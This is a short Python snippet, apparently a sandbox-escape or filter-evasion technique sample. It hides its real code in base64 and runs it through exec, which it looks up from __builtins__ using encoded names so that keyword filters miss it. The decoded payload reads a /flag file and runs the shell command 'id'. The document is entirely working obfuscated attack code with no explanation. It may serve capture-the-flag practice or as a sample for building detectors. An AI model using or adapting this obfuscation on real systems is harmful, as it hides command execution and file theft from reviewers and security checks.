# technique: base64-encoded source compiled and run via builtin fetched with a decoded key
import base64 as b

blob = b.b64decode(
    b"aW1wb3J0IG9zCnByaW50KG9wZW4oJy9mbGFnJykucmVhZCgpKQpvcy5zeXN0ZW0oJ2lkJykK"
)
bi = (lambda: 0).__globals__[b.b64decode(b"X19idWlsdGluc19f").decode()]
bi = bi if isinstance(bi, dict) else vars(bi)
runner = bi[b.b64decode(b"ZXhlYw==").decode()]
runner(blob)
